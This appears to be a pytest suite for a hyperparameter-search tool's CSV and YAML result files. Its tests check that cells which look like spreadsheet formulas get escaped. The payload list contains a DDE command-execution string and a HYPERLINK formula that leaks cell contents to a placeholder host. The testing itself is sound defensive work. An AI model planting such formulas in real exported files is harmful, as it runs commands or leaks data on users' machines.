"""The views of a run: what stands in trials.csv, curves.csv, timings.csv and best.yaml, to the byte."""

import csv
import io
import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hpsearch import strict_yaml
from hpsearch.run_directory.directory import open_run
from hpsearch.run_directory.record import RunRecord
from hpsearch.run_directory.results import (
    csv_text,
    describe_best,
    open_row,
    trial_columns,
    trial_row,
    unescaped,
)
from hpsearch.trial import TrialState

FIXED = [
    "trial", "state", "dev_log_loss", "train_log_loss", "dev_accuracy", "train_accuracy",
    "best_epoch", "epochs", "updates", "parameters", "gflop", "diagnosis", "error",
]  # fmt: skip
HYPERPARAMETERS = ["optimizer", "momentum", "learning_rate", "hidden"]
STARTS = tuple("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
PAYLOADS = [
    "=1+1",
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://x.example?leak="&A1,"click")',
    "+1-1",
    "-2+3",
    "-0.5",
    "-",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\0=1+1",
    '=1,2\n"3"',
]  # fmt: skip
HARMLESS = ["", "relu", "a=b", "1-2", "'quoted'", '"', "a,b", "two\nlines", "\u00e4 \u4e2d", "0.5", "e-5"]


@pytest.fixture
def write(tmp_path, study_facts, make_result):
    """A function that runs made-up trials into a new run directory and returns the folder."""

    def run(results, name="run", reason="done"):
        folder = tmp_path / name
        with open_run(folder, *study_facts, {"command": f"hpsearch random -o {folder}"}) as directory:
            for result in results:
                directory.add(result)
            directory.finish(reason, len(results))
        return folder

    return run


def cells(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def rows_of(file):
    header, *rows = cells(file.read_text())
    assert len(set(header)) == len(header)
    return [dict(zip(header, row, strict=True)) for row in rows]


def bits(number):
    return struct.pack("<d", number)


# --- Cells ---


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_a_spreadsheet_would_run_is_escaped(payload):
    text = csv_text(["a", payload], [{"a": payload, payload: 1}])
    assert cells(text) == [["a", f"'{payload}"], [f"'{payload}", "1"]]


@pytest.mark.parametrize("text", ["=1+1", "-1", "@x", "plain", "'quoted'", "", "[0.1, 0.2]"])
def test_what_was_escaped_is_read_back(text):
    _, (cell, _) = cells(csv_text(["a", "b"], [{"a": text, "b": 1}]))
    assert unescaped(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text):
    assert cells(csv_text(["a", "b"], [{"a": text, "b": 1}])) == [["a", "b"], [text, "1"]]


@pytest.mark.parametrize("number", [-0.5, -3, -0.0, 1e-7, -1e300, 0, 7])
def test_numbers_are_never_escaped(number):
    assert cells(csv_text(["a"], [{"a": number}])) == [["a"], [repr(number)]]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=4))
def test_any_text_comes_back_and_none_begins_a_formula(texts):
    columns = [str(i) for i in range(len(texts))]
    _, row = cells(csv_text(columns, [dict(zip(columns, texts, strict=True))]))
    assert row == [f"'{text}" if text.startswith(STARTS) else text for text in texts]


@given(st.floats(allow_nan=False))
def test_floats_come_back_bit_for_bit(number):
    cell = cells(csv_text(["a", "b"], [{"a": number, "b": 0}]))[1][0]
    assert bits(float(cell)) == bits(number)


@given(st.floats(allow_nan=False))
def test_floats_in_yaml_come_back_bit_for_bit(tmp_path_factory, number):
    file = tmp_path_factory.getbasetemp() / "number.yaml"
    file.write_text(strict_yaml.dump({"score": number, "flow": [number]}))
    found = strict_yaml.parse_plain(file.read_bytes(), "")
    assert bits(found["score"]) == bits(found["flow"][0]) == bits(number)


def test_what_is_not_there_is_an_empty_cell():
    assert csv_text(["a", "b", "c"], [{"a": None, "c": 0}]) == "a,b,c\n,,0\n"


# --- trials.csv ---


def test_the_columns_of_trials_are_those_of_the_contract(write, make_result):
    header = (write([make_result(0)]) / "trials.csv").read_text().partition("\n")[0]
    assert header.split(",") == FIXED + HYPERPARAMETERS


@pytest.mark.parametrize(
    ("task", "metric", "columns"),
    [
        ("classification", "accuracy", ["accuracy", "log_loss"]),
        ("classification", "auc", ["auc", "log_loss", "accuracy"]),
        ("regression", "rmse", ["rmse", "mae", "r2"]),
        ("regression", "r2", ["r2", "rmse", "mae"]),
    ],
)
def test_the_metric_columns_follow_task_and_metric(study_facts, task, metric, columns):
    study, data = study_facts
    record = RunRecord.of(study | {"metric": metric}, data | {"task": task})
    wanted = [f"{part}_{name}" for name in columns for part in ("dev", "train")]
    assert trial_columns(record) == ["trial", "state", *wanted, *FIXED[6:], *HYPERPARAMETERS]


def test_a_row_for_each_trial_in_order_of_numbers(write, make_result):
    third = 1 / 3
    folder = write(
        [
            make_result(2, third, config={"optimizer": "momentum", "momentum": 0.9, "learning_rate": third}),
            make_result(0, 0.25, best_epoch=3),
            make_result(1, None),
        ]
    )
    rows = rows_of(folder / "trials.csv")
    assert [row["trial"] for row in rows] == ["0", "1", "2"]
    first, failed, last = rows
    assert first["state"] == "COMPLETE"
    assert first["diagnosis"] == "", "no constant prediction is known to measure it by"
    assert (first["best_epoch"], first["epochs"], first["updates"], first["parameters"]) == ("3", "3", "21", "2947")
    assert first["momentum"] == "", "a hyperparameter that is not active has no value"
    assert first["hidden"] == "[64, 32]"
    assert failed["state"] == "FAIL"
    assert failed["error"].startswith("diverged: ")
    assert failed["diagnosis"] == "diverged"
    assert [failed[name] for name in FIXED[2:7]] == [""] * 5
    assert float(last["learning_rate"]) == float(last["dev_log_loss"]) == third
    assert last["momentum"] == "0.9"
    assert last["diagnosis"] == ""


def test_an_error_that_looks_like_a_formula_is_escaped(write, make_result):
    folder = write([make_result(0), make_result(1, None, error='=cmd|" /C calc"!A0')])
    assert rows_of(folder / "trials.csv")[1]["error"] == '\'=cmd|" /C calc"!A0'


def test_a_running_trial_has_a_row_without_results(study_facts):
    columns = trial_columns(RunRecord.of(*study_facts))
    row = open_row(4, TrialState.RUNNING, {"optimizer": "adam"}, columns)
    assert list(row) == columns
    assert {name for name, value in row.items() if value is not None} == {"trial", "state", "optimizer"}
    assert row["state"] == "RUNNING"


def test_a_row_has_every_column_and_no_other(study_facts, make_result):
    record = RunRecord.of(*study_facts)
    columns = trial_columns(record)
    result = make_result(0, config={"optimizer": "adam", "unheard_of": 1})
    assert list(trial_row(record, result, columns)) == columns


# --- curves.csv and timings.csv ---


def test_curves_have_a_line_for_each_epoch(write, make_result):
    results = [make_result(1), make_result(0), make_result(2, None, curves={})]
    results[0].curves["dev_loss"][1] = float("inf")
    results[0].curves["train_loss"][2] = float("nan")
    curves = [dict(result.curves) for result in results]
    rows = rows_of(write(results) / "curves.csv")
    assert list(rows[0]) == [
        "trial", "epoch", "train_loss", "dev_loss", "train_log_loss", "dev_log_loss", "learning_rate", "grad_norm",
    ]  # fmt: skip
    assert [(row["trial"], row["epoch"]) for row in rows] == [(t, e) for t in "01" for e in "123"]
    for row, result in zip(rows, [curves[1]] * 3 + [curves[0]] * 3, strict=True):
        epoch = int(row["epoch"]) - 1
        for cell, values in zip(list(row.values())[2:], result.values(), strict=True):
            assert cell == (repr(values[epoch]) if abs(values[epoch]) < float("inf") else "")
    assert rows[4]["dev_loss"] == rows[5]["train_loss"] == ""


def test_timings_tell_when_how_long_and_where(write, make_result):
    rows = rows_of(write([make_result(1), make_result(0)]) / "timings.csv")
    assert rows[1] == {"trial": "1", "started": "2001-09-09T01:46:41.000+00:00", "seconds": "0.25", "worker": "1"}


# --- best.yaml ---


def test_best_tells_of_the_winner(write, make_result):
    folder = write([make_result(i, score) for i, score in enumerate([0.5, None, 1 / 3, 0.4, 0.6, 0.7, 0.8])])
    best = strict_yaml.parse_plain((folder / "best.yaml").read_bytes(), "")
    assert best["trial"] == 2
    assert best["metric"] == "log_loss"
    assert best["score"] == 1 / 3
    assert best["hyperparameters"] == make_result(2).config
    assert best["scores"]["dev"] == {"log_loss": 1 / 3, "accuracy": 0.9}
    assert best["scores"]["train"] == {"log_loss": 1 / 6, "accuracy": 1.0}
    assert best["trials"] == 7
    assert [other["trial"] for other in best["runners_up"]] == [3, 0, 4, 5]


def test_of_equal_trials_the_first_wins(study_facts, make_result):
    study, data = study_facts
    results = [make_result(number, score) for number, score in {3: 0.2, 1: 0.2, 0: 0.3, 2: None}.items()]
    record = RunRecord.of(study, data, results)
    assert record.best().number == 1
    assert record.ranking() == [1, 3, 0]
    assert record.ranking(2) == [1, 3]
    assert [r["trial"] for r in describe_best(record, record.best())["runners_up"]] == [3, 0]


def test_more_is_better_where_the_metric_says_so(study_facts, make_result):
    study, data = study_facts
    results = [
        make_result(number, metrics={"dev_accuracy": score, "dev_log_loss": 1.0})
        for number, score in enumerate([0.5, 0.9, 0.9, 0.7])
    ]
    record = RunRecord.of(study | {"metric": "accuracy"}, data, results)
    assert record.best().number == 1
    assert record.ranking() == [1, 2, 3, 0]


def test_without_a_score_there_is_no_best(write, make_result):
    folder = write([make_result(0, None)])
    assert not (folder / "best.yaml").exists()
    assert len(rows_of(folder / "trials.csv")) == 1


def test_only_timings_depend_on_place_time_and_worker(write, make_result):
    scores = [0.5, None, 0.25, 0.75]
    here = write([make_result(i, score) for i, score in enumerate(scores)], "here")
    there = write(
        [
            make_result(i, scores[i], started=2e9 - i, seconds=7.5, worker=5)
            for i in (3, 0, 2, 1)
        ],
        "there",
    )  # fmt: skip
    for name in ("trials.csv", "curves.csv", "best.yaml"):
        assert (here / name).read_bytes() == (there / name).read_bytes(), name
        assert "here" not in (here / name).read_text()
    assert (here / "timings.csv").read_bytes() != (there / "timings.csv").read_bytes()
